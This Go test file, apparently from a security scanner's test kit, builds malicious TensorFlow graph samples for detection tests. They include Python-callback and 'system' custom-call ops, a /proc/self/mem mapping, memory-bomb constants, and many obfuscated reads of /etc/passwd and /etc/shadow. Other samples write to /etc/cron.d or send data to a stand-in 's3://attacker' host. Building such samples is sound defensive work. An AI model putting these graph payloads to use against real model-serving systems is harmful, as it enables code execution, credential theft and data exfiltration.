package hostile

import (
	"fmt"
	"slices"

	tf "github.com/picketsec/picket/internal/testkit/tfproto"
)

// tfNode makes a node without attributes.
func tfNode(name, op string, inputs ...string) []byte { return tf.Node(name, op, inputs) }

// tfCall makes a node that calls a function.
func tfCall(name, op, function string, inputs ...string) []byte {
	return tf.Node(name, op, inputs, tf.Attr("f", tf.FunctionValue(function)))
}

// frozen makes a graph by itself; it begins with an honest node, as real ones do.
func frozen(nodes ...[]byte) []byte {
	return tf.Graph(nil, slices.Concat([][]byte{tf.Placeholder("x")}, nodes)...)
}

// graphOperationSamples are graphs with operations that do harm by themselves.
func graphOperationSamples() []Sample {
	text := tf.Const("text", "127.0.0.1:9")
	var all []Sample
	for _, s := range []struct {
		name, group, note string
		nodes             [][]byte
	}{
		{"pyfunc", "tensorflow-python", "PyFunc calls a Python function of the process by its token", [][]byte{tf.Node("y", "PyFunc", []string{"x"}, tf.Attr("token", tf.TextValue("pyfunc_0")))}},
		{"pyfunc-stateless", "tensorflow-python", "PyFuncStateless calls Python while the graph is optimised", [][]byte{tf.Node("y", "PyFuncStateless", []string{"x"}, tf.Attr("token", tf.TextValue("pyfunc_0")))}},
		{"eager-pyfunc", "tensorflow-python", "EagerPyFunc calls Python with eager tensors", [][]byte{tf.Node("y", "EagerPyFunc", []string{"x"}, tf.Attr("token", tf.TextValue("pyfunc_1")))}},
		{"module-callback", "tensorflow-python", "XlaCallModule whose module calls back into Python", [][]byte{tf.Node("y", "XlaCallModule", []string{"x"}, tf.Attr("module", tf.TextValue("ML\xefR stablehlo.custom_call xla_ffi_python_cpu_callback")))}},
		{"custom-call", "tensorflow-native", "XlaCustomCallV2 calls a compiled function by its name", [][]byte{tf.Node("y", "XlaCustomCallV2", []string{"x"}, tf.Attr("call_target_name", tf.TextValue("system")))}},
		{"immutable-const", "tensorflow-native", "CVE-2021-41227: ImmutableConst maps a region of memory that the graph names", [][]byte{tf.Node("y", "ImmutableConst", nil, tf.Attr("memory_region_name", tf.TextValue("/proc/self/mem")))}},
		{"unknown-op", "tensorflow-custom", "an operation that only a library of the attacker has", [][]byte{tfNode("y", "SystemCommand", "x")}},
		{"unknown-op-near", "tensorflow-custom", "the name of an operation with one letter changed", [][]byte{tfNode("y", "ReadVariab1eOp", "x")}},
		{"rpc-client", "tensorflow-network", "RpcClient connects to an address in the graph", [][]byte{text, tfNode("y", "RpcClient", "text")}},
		{"rpc-server", "tensorflow-network", "RpcServer serves functions of the graph", [][]byte{text, tfNode("y", "RpcServer", "text")}},
		{"rpc-contrib", "tensorflow-network", "TryRpc of old versions calls a method at an address", [][]byte{text, tfNode("y", "TryRpc", "text", "x")}},
		{"data-service", "tensorflow-network", "DataServiceDataset reads from a dispatcher at an address", [][]byte{text, tfNode("y", "DataServiceDatasetV4", "x", "x", "text")}},
		{"register-dataset", "tensorflow-network", "RegisterDatasetV2 sends a data set to an address", [][]byte{text, tfNode("y", "RegisterDatasetV2", "x", "text")}},
		{"remote-call", "tensorflow-network", "RemoteCall runs a function on another device", [][]byte{tf.Const("d", "/job:worker/task:0/device:CPU:0"), tfCall("y", "RemoteCall", "f", "d")}},
		{"debug-grpc", "tensorflow-network", "DebugIdentity sends every tensor to an address", [][]byte{tf.Node("y", "DebugIdentityV3", []string{"x"}, tf.Attr("debug_urls", tf.TextsValue("grpc://127.0.0.1:9")))}},
		{"debug-file", "tensorflow-network", "DebugIdentityV2 writes every tensor to a folder", [][]byte{tf.Node("y", "DebugIdentityV2", []string{"x"}, tf.Attr("debug_urls", tf.TextsValue("file:///tmp/"+Marker)))}},
		{"dataset-from-graph", "tensorflow-hidden", "DatasetFromGraph runs a graph that a constant holds, with WriteFile in it",
			[][]byte{tf.Const("g", string(frozen(tf.Const("p", Marker+".py"), tfNode("w", "WriteFile", "p", "p")))), tfNode("y", "DatasetFromGraph", "g")}},
		{"file-system", "tensorflow-setting", "FileSystemSetConfiguration redirects a file system", [][]byte{tf.Const("s", "s3"), tf.Const("k", "endpoint"), text, tfNode("y", "FileSystemSetConfiguration", "s", "k", "text")}},
		{"abort", "tensorflow-resource", "Abort ends the process that serves the model", [][]byte{tfNode("y", "Abort")}},
		{"expanding-const", "tensorflow-resource", "a constant of 4 bytes that makes 2^50 elements", [][]byte{bomb(1<<25, 1<<25)}},
		{"overflowing-const", "tensorflow-resource", "a constant whose shape overflows 64 bits", [][]byte{bomb(1<<40, 1<<40)}},
		{"negative-const", "tensorflow-resource", "a constant with a negative dimension", [][]byte{bomb(-7)}},
		{"node-twice", "tensorflow-duplicate", "two nodes have one name", [][]byte{tfNode("x", "Abort"), tfNode("x", "NoOp")}},
		{"op-twice", "tensorflow-duplicate", "a node with two operations: the last counts", [][]byte{append(tfNode("y", "NoOp", "x"), tf.Text(2, "PyFunc")...)}},
	} {
		all = append(all, tensorflowSample("tf-"+s.name+".pb", s.group, s.note, frozen(s.nodes...)))
	}
	loop := tf.Library(tf.Function("f", nil, "", tfCall("c", "PartitionedCall", "g")), tf.Function("g", nil, "", tfCall("c", "PartitionedCall", "f")))
	inside := tf.Library(tf.Function("f", nil, "", tfNode("y", "EagerPyFunc")))
	return append(all,
		tensorflowSample("tf-recursion.pb", "tensorflow-resource", "CVE-2022-23591: functions that call each other without end", tf.Graph(loop, tf.Placeholder("x"), tfCall("y", "PartitionedCall", "f"))),
		tensorflowSample("tf-pyfunc-in-function.pb", "tensorflow-python", "EagerPyFunc in the library of functions only", tf.Graph(inside, tf.Placeholder("x"), tfCall("y", "PartitionedCall", "f"))),
	)
}

// bomb makes a constant of one number that fills a shape.
func bomb(dims ...int64) []byte {
	return tf.Node("c", "Const", nil, tf.Attr("value", tf.TensorValue(slices.Concat(tf.Number(1, tf.Float), tf.Shape(dims...), tf.Field(5, make([]byte, 4))))))
}

// graphPathSamples are graphs that reach files, with every way to bring the path there.
func graphPathSamples() []Sample {
	var all []Sample
	secret := tf.Const("p", "/etc/passwd")
	add := func(name, note string, nodes ...[]byte) {
		all = append(all, tensorflowSample("tf-path-"+name+".pb", "tensorflow-file", note, frozen(nodes...)))
	}
	for _, op := range []string{"ReadFile", "MatchingFiles", "TextLineDataset", "FixedLengthRecordDatasetV2", "CSVDatasetV2", "LMDBDataset", "LoadDataset",
		"TFRecordDatasetV2", "RestoreV2", "LoadAndRemapMatrix"} {
		add("read-"+op, op+" reads /etc/passwd", secret, tfNode("r", op, "p"))
	}
	for i, op := range []string{"WriteFile", "SaveV2", "Save", "MergeV2Checkpoints"} {
		add("write-"+op, op+" writes to a folder that runs what is in it", tf.Const("p", "/etc/cron.d/"+Marker), tf.Const("c", fmt.Sprintf("# %d %s", i, Marker)), tfNode("w", op, "p", "c"))
	}
	for _, op := range []string{"DatasetToTFRecord", "SaveDatasetV2", "SnapshotDatasetV2", "CacheDatasetV2", "CreateSummaryFileWriter"} {
		add("write-"+op, op+" writes to a folder that runs what is in it", tf.Const("p", "~/.config/"+Marker), tfNode("w", op, "x", "p"))
	}
	add("print", "PrintV2 writes to a file", tf.Node("w", "PrintV2", []string{"x"}, tf.Attr("output_stream", tf.TextValue("file:///tmp/"+Marker))))
	add("dump", "DumpTensor writes to a folder in an attribute", tf.Node("w", "DumpTensor", []string{"x"}, tf.Attr("log_dir_path", tf.TextValue("/tmp/"+Marker))))
	add("skipgram", "Skipgram reads a file in an attribute", tf.Node("w", "Skipgram", nil, tf.Attr("filename", tf.TextValue("/etc/passwd"))))
	add("joined", "a path of two halves", tf.Const("a", "/etc/pas"), tf.Const("b", "swd"), tfNode("p", "StringJoin", "a", "b"), tfNode("r", "ReadFile", "p"))
	add("base64", "a path in base64", tf.Const("a", "L2V0Yy9wYXNzd2Q"), tfNode("p", "DecodeBase64", "a"), tfNode("r", "ReadFile", "p"))
	add("lower", "a path in capitals", tf.Const("a", "/ETC/PASSWD"), tfNode("p", "StringLower", "a"), tfNode("r", "ReadFile", "p"))
	add("regex", "a path that a replacement completes", tf.Const("a", "/e!c/passwd"), tfNode("p", "StaticRegexReplace", "a"), tfNode("r", "WriteFile", "p", "a"))
	add("encoded", "a path made of numbers", tfNode("n", "Range"), tfNode("p", "UnicodeEncode", "n"), tfNode("r", "ReadFile", "p"))
	add("default", "a path that is the default of a placeholder", tf.Const("a", "/etc/passwd"), tfNode("p", "PlaceholderWithDefault", "a"), tfNode("r", "ReadFile", "p"))
	add("select", "a path that a condition chooses", tf.Const("a", "/etc/passwd"), tf.Placeholder("b"), tfNode("p", "SelectV2", "x", "b", "a"), tfNode("r", "ReadFile", "p"))
	add("dataset", "paths that are a data set", tf.Const("a", "x", "/etc/passwd"), tfNode("d", "TensorSliceDataset", "a"), tfNode("p", "IteratorGetNext", "d"), tfNode("r", "ReadFile", "p"))
	add("variable", "a path that is kept in a variable", tf.Const("a", "/etc/passwd"), tfNode("v", "VarHandleOp"), tf.Node("s", "AssignVariableOp", []string{"v", "a"}, tf.Attr("dtype", tf.TypeValue(tf.String))),
		tfNode("p", "ReadVariableOp", "v"), tfNode("r", "ReadFile", "p"))
	add("checkpoint", "a path that comes from a checkpoint", tfNode("v", "VarHandleOp"), tfNode("p", "ReadVariableOp", "v"), tfNode("r", "WriteFile", "p", "x"))
	add("queue", "a path that goes through a queue to a reader", tf.Const("a", "/etc/passwd"), tfNode("q", "FIFOQueueV2"), tfNode("e", "QueueEnqueueManyV2", "q", "a"), tfNode("w", "WholeFileReaderV2"), tfNode("r", "ReaderReadV2", "w", "q"))
	add("tensor-content", "a path as the block of a tensor", tf.Node("p", "Const", nil, tf.Attr("value", tf.TensorValue(slices.Concat(tf.Number(1, tf.String), tf.Shape(1), tf.Text(4, "\x0b/etc/passwd"))))), tfNode("r", "ReadFile", "p"))
	add("scheme", "a path with the scheme of local files", tf.Const("p", "file:///etc/shadow"), tfNode("r", "ReadFile", "p"))
	add("bucket", "a file of another machine", tf.Const("p", "gs://attacker/"+Marker), tfNode("r", "ReadFile", "p"))
	add("exfiltrate", "a file written to another machine", tf.Const("p", "s3://attacker/"+Marker), tfNode("r", "WriteFile", "p", "x"))
	add("input-write", "a file written where the request says", tfNode("r", "WriteFile", "x", "x"))
	reader := tf.Function("reader", []string{"path"}, "r:contents:0", tfNode("r", "ReadFile", "path"))
	for _, c := range []struct{ name, note, op string }{{"call", "a path that is the argument of a function", "StatefulPartitionedCall"}, {"direct", "a function as an operation", "reader"}, {"map", "a function over a data set", "MapDataset"}} {
		all = append(all, tensorflowSample("tf-path-"+c.name+".pb", "tensorflow-file", c.note, tf.Graph(tf.Library(reader), tf.Placeholder("x"), secret, tfCall("y", c.op, "reader", "p"))))
	}
	return append(all, tensorflowSample("tf-path-in-function.pb", "tensorflow-file", "the path and the operation stand in a function that a data set calls",
		tf.Graph(tf.Library(tf.Function("f", nil, "", secret, tfNode("r", "ReadFile", "p:output:0"))), tf.Placeholder("x"), tfCall("y", "MapDataset", "f", "x"))))
}
